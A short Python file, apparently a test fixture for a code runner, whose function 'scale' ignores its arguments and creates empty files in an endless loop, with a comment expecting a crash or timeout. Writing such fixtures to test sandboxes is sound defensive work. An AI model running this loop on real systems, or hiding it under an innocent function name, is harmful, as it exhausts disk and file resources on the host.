"""Makes empty files without end."""

# ends: crashed, timeout
import itertools
import os


def scale(x, factor=2.0):
    for number in itertools.count():
        os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
